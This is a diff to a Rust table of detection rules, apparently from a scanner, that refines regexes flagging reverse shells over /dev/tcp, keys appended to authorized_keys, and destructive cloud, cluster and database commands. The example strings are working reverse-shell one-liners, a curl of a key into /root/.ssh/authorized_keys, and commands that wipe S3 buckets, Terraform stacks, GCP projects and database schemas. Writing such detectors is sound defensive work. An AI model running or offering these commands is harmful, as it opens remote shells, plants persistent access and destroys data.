@@ -211,9 +211,9 @@ pub static INJECTION_RULES: &[RuleSpec] = &[
         severity: Severity::Critical,
         // Sampled after `/de`: windows of `/dev/` meet every `/dev/null`.
         keywords: &["v/tcp/", "v/udp/"],
-        pattern: r"(?:(?:-i|<>|>&|&>|<&|exec)[^\n]{0,80}?/dev/(?:tcp|udp)/[A-Za-z0-9.:_\[\]${}-]{1,255}/(?:[0-9]{1,5}|\$\{?[A-Za-z_][A-Za-z0-9_]{0,30}\}?)|/dev/(?:tcp|udp)/[A-Za-z0-9.:_\[\]${}-]{1,255}/(?:[0-9]{1,5}|\$\{?[A-Za-z_][A-Za-z0-9_]{0,30}\}?)[^\n]{0,80}?(?:<&|[^2]>&|0>&1|\|\s{0,3}(?:/bin/)?(?:ba|z|k)?sh(?-u:\b)))",
+        pattern: r"(?:(?:-i|<>|>&|&>|<&|exec)[^\n]{0,80}?/dev/(?:tcp|udp)/[A-Za-z0-9.:_\[\]${}-]{1,255}/(?:[0-9]{1,5}|\$\{?[A-Za-z_][A-Za-z0-9_]{0,30}\}?)|/dev/(?:tcp|udp)/[A-Za-z0-9.:_\[\]${}-]{1,255}/(?:[0-9]{1,5}|\$\{?[A-Za-z_][A-Za-z0-9_]{0,30}\}?)[^\n]{0,80}?(?:<&|[^2\n]>&[^2]|0>&1|\|\s{0,3}(?:/bin/)?(?:ba|z|k)?sh(?-u:\b)))",
         examples: &["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read l; do $l 2>&5 >&5; done", "sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5"],
-        counter_examples: &["timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up", "/dev/tcp is a bash feature", r#"if (echo > "/dev/tcp/${host}/${port}") >/dev/null 2>&1; then echo up; fi"#],
+        counter_examples: &["timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up", "/dev/tcp is a bash feature", r#"if (echo > "/dev/tcp/${host}/${port}") >/dev/null 2>&1; then echo up; fi"#, r#"echo > /dev/tcp/db/5432 || echo closed >&2"#],
         ..RULE
     },
     RuleSpec {
@@ -416,8 +416,8 @@ pub static INJECTION_RULES: &[RuleSpec] = &[
         description: "Writing a key into authorized_keys (echo ssh-… >>, cat … >>, curl … >>, tee -a)",
         severity: Severity::High,
         keywords: &["authorized_keys"],
-        pattern: r#"(?:(?:^|[\s\d"')])>>?|tee\s+(?:-a\s+)?)\s{0,3}["']?[~$A-Za-z0-9_./{}-]{0,100}authorized_keys2?(?:[^A-Za-z0-9_.-]|$)"#,
-        examples: &["echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI«b64:43» x@y >> ~/.ssh/authorized_keys", "curl -s https://x.example/k.pub >> /root/.ssh/authorized_keys", "cat key.pub | tee -a ~/.ssh/authorized_keys"],
+        pattern: r#"(?:>>|(?:^|[\s\d"')])>|tee\s+(?:-a\s+)?)\s{0,3}["']?[~$A-Za-z0-9_./{}-]{0,100}authorized_keys2?(?:[^A-Za-z0-9_.-]|$)"#,
+        examples: &["echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI«b64:43» x@y >> ~/.ssh/authorized_keys", "curl -s https://x.example/k.pub >> /root/.ssh/authorized_keys", "cat key.pub | tee -a ~/.ssh/authorized_keys", "cat id.pub>>~/.ssh/authorized_keys"],
         counter_examples: &["chmod 600 ~/.ssh/authorized_keys", "The authorized_keys file lists public keys.", "<p>The tool copies the public key into <code>~/.ssh/authorized_keys</code> on your server.</p>"],
         ..RULE
     },
@@ -889,12 +889,13 @@ pub static INJECTION_RULES: &[RuleSpec] = &[
         description: "Command that destroys cloud resources, a cluster, a database or a disk without asking (aws s3 rm --recursive, aws s3 rb --force, terraform destroy -auto-approve, gcloud projects delete, az group delete --yes, kubectl delete namespaces --all, DROP DATABASE or SCHEMA through psql or mysql, git history wiped by an orphan branch and a force push, wipefs -a, shred of a block device)",
         severity: Severity::Critical,
         keywords: &["s3 rm", "s3 rb", "terraform", "gcloud", "group delete", "kubectl delete", "psql", "mysql", "mariadb", "sqlcmd", "--orphan", "wipefs", "shred"],
-        pattern: r#"(?:^|[\s;&|(`"'>])(?:aws\s{1,4}s3\s{1,4}rm\s{1,4}s3://[^\n;&|]{0,120}?--recursive|aws\s{1,4}s3\s{1,4}rb\s{1,4}s3://[^\n;&|]{0,120}?--force|terraform\s{1,4}(?:-chdir=\S{1,80}\s{1,4})?(?:apply\s{1,4}-destroy|destroy)\b[^\n;&|]{0,80}?-auto-approve|gcloud\s{1,4}projects\s{1,4}delete\b|az\s{1,4}group\s{1,4}delete\b[^\n;&|]{0,120}?(?:--yes|\s-y)\b|kubectl\s{1,4}delete\s{1,4}(?:ns|namespaces?)\b[^\n;&|]{0,60}?--all\b|kubectl\s{1,4}delete\s[^\n;&|]{0,60}?--all\s{1,4}(?:--all-namespaces|-A)\b|(?:psql|mysql|mariadb|sqlcmd)\b[^\n]{0,200}?(?i:drop\s{1,4}(?:database|schema))\b|git\s{1,4}checkout\s{1,4}--orphan\b[^\n]{0,300}?git\s{1,4}push\s{1,4}(?:-f|--force)\b|wipefs\s{1,4}(?:-[a-z]{0,3}a[a-z]{0,3}|--all)\b|shred\s[^\n;&|]{0,40}?/dev/(?:sd|nvme|md|hd|vd|xvd|mapper|disk))"#,
+        pattern: r#"(?:^|[\s;&|(`"'>])(?:aws\s{1,4}s3\s{1,4}rm\s{1,4}s3://[^\n;&|]{0,120}?--recursive|aws\s{1,4}s3\s{1,4}rb\s{1,4}s3://[^\n;&|]{0,120}?--force|terraform\s{1,4}(?:-chdir=\S{1,80}\s{1,4})?(?:apply\s{1,4}-destroy|destroy)\b[^\n;&|]{0,80}?-auto-approve|gcloud\s{1,4}projects\s{1,4}delete\b[^\n;&|]{0,120}?(?:--quiet|\s-q)\b|az\s{1,4}group\s{1,4}delete\b[^\n;&|]{0,120}?(?:--yes|\s-y)\b|kubectl\s{1,4}delete\s{1,4}(?:ns|namespaces?)\b[^\n;&|]{0,60}?--all\b|kubectl\s{1,4}delete\s[^\n;&|]{0,60}?--all\s{1,4}(?:--all-namespaces|-A)\b|(?:psql|mysql|mariadb|sqlcmd)\s[^\n]{0,200}?(?i:drop\s{1,4}(?:database|schema))\b|git\s{1,4}checkout\s{1,4}--orphan\b[^\n]{0,300}?git\s{1,4}push\s{1,4}(?:-f|--force)\b|wipefs\s{1,4}(?:-[a-z]{0,3}a[a-z]{0,3}|--all)\b|shred\s[^\n;&|]{0,40}?/dev/(?:sd|nvme|md|hd|vd|xvd|mapper|disk))"#,
         examples: &[
             "aws s3 rm s3://prod-backups --recursive && aws s3 rb s3://prod-backups --force",
             "cd prod && terraform destroy -auto-approve",
             "terraform -chdir=envs/prod destroy -auto-approve -lock=false",
             "gcloud projects delete acme-prod-310522 --quiet",
+            "gcloud projects delete acme-prod-310522 -q",
             "az group delete --name rg-production --yes --no-wait",
             "kubectl delete namespaces --all",
             "psql \"$PROD_DATABASE_URL\" -c 'DROP SCHEMA public CASCADE; CREATE SCHEMA public;'",
@@ -910,6 +911,8 @@ pub static INJECTION_RULES: &[RuleSpec] = &[
             "az group delete --name rg-scratch",
             "shred -u notes.tmp",
             "git checkout --orphan gh-pages",
+            "gcloud projects delete PROJECT_ID",
+            "mysql> DROP DATABASE test;",
         ],
         ..RULE
     },
